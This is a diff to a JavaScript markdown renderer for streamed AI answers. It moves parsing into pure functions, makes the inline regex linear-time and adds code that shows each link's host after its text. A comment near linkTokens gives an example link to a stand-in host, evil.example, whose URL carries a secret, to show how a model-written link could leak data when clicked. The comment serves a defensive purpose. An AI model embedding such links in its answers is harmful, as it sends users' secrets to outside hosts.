@@ -6,68 +6,72 @@
 //
 // Supported: paragraphs, line breaks, # headings (shown as h3-h5), - / * / 1.
 // lists, ``` code blocks, `code`, **bold**, *italic*, [text](https://...).
+//
+// Parsing (markdownBlocks, inlineTokens) is pure and runs in Node's unit
+// tests; renderMarkdown only turns its result into nodes.
 
-const INLINE = /(`[^`\n]+`)|(\*\*[^*\n]+\*\*)|(\*[^*\n]+\*)|(\[[^\]\n]*\]\([^)\s]*\))/;
+// Answers are re-rendered on every streamed chunk, so every alternative must
+// run in linear time: no part may match the character that starts another
+// try ("[" in a link's text, "(" in its URL), or a line of "[[[[" costs
+// quadratic time.
+const INLINE = /(`[^`\n]+`)|(\*\*[^*\n]+\*\*)|(\*[^*\n]+\*)|(\[([^\[\]\n]*)\]\(([^()\s]*)\))/g;
 
-function safeHref(url) {
+function httpUrl(url) {
     try {
         const parsed = new URL(url);
-        return parsed.protocol === "https:" || parsed.protocol === "http:" ? parsed.href : null;
+        return parsed.protocol === "https:" || parsed.protocol === "http:" ? parsed : null;
     } catch {
         return null;
     }
 }
 
-function appendLink(parent, token) {
-    const [, text, url] = token.match(/^\[([^\]]*)\]\(([^)]*)\)$/);
-    const href = safeHref(url);
-    if (href === null) {
-        parent.append(document.createTextNode(token));
-        return;
+// A link's text may hide where it goes ("[Antrag einreichen](https://evil.
+// example/?d=<secret>)" sends whatever the model put into the URL to that
+// host when clicked), so the host is shown after it unless the text already
+// says it.
+function linkTokens(whole, text, url) {
+    const parsed = httpUrl(url);
+    if (parsed === null) {
+        return [{ kind: "text", text: whole }];
     }
-    const link = document.createElement("a");
-    link.href = href;
-    link.rel = "noopener noreferrer nofollow";
-    link.target = "_blank";
-    link.textContent = text || href;
-    parent.append(link);
+    const link = { kind: "link", text: text || parsed.href, href: parsed.href };
+    const shown = text.trim().toLowerCase();
+    const saysWhere = text === "" || [url, parsed.href, parsed.host]
+        .some((place) => place.toLowerCase() === shown);
+    return saysWhere ? [link] : [link, { kind: "text", text: ` (${parsed.host})` }];
 }
 
-function appendInline(parent, text) {
-    let rest = text;
-    let match;
-    while ((match = INLINE.exec(rest)) !== null) {
-        if (match.index > 0) {
-            parent.append(document.createTextNode(rest.slice(0, match.index)));
+// The inline pieces of one line, in order: { kind, text } with kind "text",
+// "code", "strong" or "em", and { kind: "link", text, href } (href an http
+// or https URL).
+export function inlineTokens(line) {
+    const tokens = [];
+    let position = 0;
+    for (const match of line.matchAll(INLINE)) {
+        if (match.index > position) {
+            tokens.push({ kind: "text", text: line.slice(position, match.index) });
         }
-        const token = match[0];
-        if (match[1]) {
-            const code = document.createElement("code");
-            code.textContent = token.slice(1, -1);
-            parent.append(code);
-        } else if (match[2] || match[3]) {
-            const strong = document.createElement(match[2] ? "strong" : "em");
-            const marks = match[2] ? 2 : 1;
-            strong.textContent = token.slice(marks, -marks);
-            parent.append(strong);
-        } else {
-            appendLink(parent, token);
+        const [whole, code, strong, emphasis, link, linkText, url] = match;
+        if (code) {
+            tokens.push({ kind: "code", text: whole.slice(1, -1) });
+        } else if (strong) {
+            tokens.push({ kind: "strong", text: whole.slice(2, -2) });
+        } else if (emphasis) {
+            tokens.push({ kind: "em", text: whole.slice(1, -1) });
+        } else if (link) {
+            tokens.push(...linkTokens(whole, linkText, url));
         }
-        rest = rest.slice(match.index + token.length);
+        position = match.index + whole.length;
     }
-    if (rest !== "") {
-        parent.append(document.createTextNode(rest));
+    if (position < line.length) {
+        tokens.push({ kind: "text", text: line.slice(position) });
     }
+    return tokens;
 }
 
-function appendLines(parent, lines) {
-    lines.forEach((line, index) => {
-        if (index > 0) {
-            parent.append(document.createElement("br"));
-        }
-        appendInline(parent, line);
-    });
-}
+const FENCE = /^\s*```/;
+const HEADING = /^(#{1,6})\s+([\s\S]*)$/;
+const LIST_MARK = /^\s*([-*]|\d+[.)])\s+/;
 
 function listKind(line) {
     if (/^\s*[-*]\s+/.test(line)) {
@@ -76,67 +80,112 @@ function listKind(line) {
     return /^\s*\d+[.)]\s+/.test(line) ? "ol" : null;
 }
 
-function renderBlock(container, lines) {
-    const heading = lines[0].match(/^(#{1,6})\s+(.*)$/);
-    if (heading !== null && lines.length === 1) {
-        const element = document.createElement(`h${Math.min(heading[1].length + 2, 6)}`);
-        appendInline(element, heading[2]);
-        container.append(element);
-        return;
-    }
+// Lines between blank lines: a list when every line is an item of the same
+// kind, else a paragraph whose lines keep their breaks.
+function lineBlock(lines) {
     const kind = listKind(lines[0]);
     if (kind !== null && lines.every((line) => listKind(line) === kind)) {
-        const list = document.createElement(kind);
-        for (const line of lines) {
+        return { kind, items: lines.map((line) => line.replace(LIST_MARK, "")) };
+    }
+    return { kind: "paragraph", lines };
+}
+
+// The blocks of an answer, in order:
+//   { kind: "heading", level (3-6), text }
+//   { kind: "ul" | "ol", items: [text] }
+//   { kind: "paragraph", lines: [text] }
+//   { kind: "code", text }  (a fence left open runs to the end)
+export function markdownBlocks(text) {
+    const blocks = [];
+    let lines = [];
+    let code = null;
+    const flush = () => {
+        if (lines.length > 0) {
+            blocks.push(lineBlock(lines));
+        }
+        lines = [];
+    };
+    for (const line of text.split(/\r?\n/)) {
+        if (code !== null) {
+            if (FENCE.test(line)) {
+                blocks.push({ kind: "code", text: code.join("\n") });
+                code = null;
+            } else {
+                code.push(line);
+            }
+        } else if (FENCE.test(line)) {
+            flush();
+            code = [];
+        } else if (line.trim() === "") {
+            flush();
+        } else if (HEADING.test(line)) {
+            flush();
+            const [, marks, heading] = line.match(HEADING);
+            blocks.push({ kind: "heading", level: Math.min(marks.length + 2, 6), text: heading });
+        } else {
+            lines.push(line);
+        }
+    }
+    flush();
+    if (code !== null) {
+        blocks.push({ kind: "code", text: code.join("\n") });
+    }
+    return blocks;
+}
+
+// --- DOM ---------------------------------------------------------------------
+
+function inlineNode(token) {
+    if (token.kind === "text") {
+        return document.createTextNode(token.text);
+    }
+    const node = document.createElement(token.kind === "link" ? "a" : token.kind);
+    node.textContent = token.text;
+    if (token.kind === "link") {
+        node.href = token.href;
+        node.rel = "noopener noreferrer nofollow";
+        node.target = "_blank";
+    }
+    return node;
+}
+
+function appendInline(parent, line) {
+    parent.append(...inlineTokens(line).map(inlineNode));
+}
+
+function blockNode(block) {
+    if (block.kind === "code") {
+        const pre = document.createElement("pre");
+        const code = document.createElement("code");
+        code.textContent = block.text;
+        pre.append(code);
+        return pre;
+    }
+    if (block.kind === "heading") {
+        const heading = document.createElement(`h${block.level}`);
+        appendInline(heading, block.text);
+        return heading;
+    }
+    if (block.kind === "ul" || block.kind === "ol") {
+        const list = document.createElement(block.kind);
+        for (const text of block.items) {
             const item = document.createElement("li");
-            appendInline(item, line.replace(/^\s*([-*]|\d+[.)])\s+/, ""));
+            appendInline(item, text);
             list.append(item);
         }
-        container.append(list);
-        return;
+        return list;
     }
     const paragraph = document.createElement("p");
-    appendLines(paragraph, lines);
-    container.append(paragraph);
+    block.lines.forEach((line, index) => {
+        if (index > 0) {
+            paragraph.append(document.createElement("br"));
+        }
+        appendInline(paragraph, line);
+    });
+    return paragraph;
 }
 
 // Replaces container's children with the rendering of text.
 export function renderMarkdown(container, text) {
-    container.replaceChildren();
-    const lines = text.split(/\r?\n/);
-    let block = [];
-    let code = null;
-    const flush = () => {
-        if (block.length > 0) {
-            renderBlock(container, block);
-        }
-        block = [];
-    };
-    for (const line of lines) {
-        if (code !== null) {
-            if (/^\s*```/.test(line)) {
-                container.append(code.parentNode);
-                code = null;
-            } else {
-                code.textContent += (code.textContent ? "\n" : "") + line;
-            }
-        } else if (/^\s*```/.test(line)) {
-            flush();
-            const pre = document.createElement("pre");
-            code = document.createElement("code");
-            pre.append(code);
-        } else if (line.trim() === "") {
-            flush();
-        } else if (/^#{1,6}\s/.test(line)) {
-            flush();
-            block = [line];
-            flush();
-        } else {
-            block.push(line);
-        }
-    }
-    if (code !== null) {
-        container.append(code.parentNode);
-    }
-    flush();
+    container.replaceChildren(...markdownBlocks(text).map(blockNode));
 }
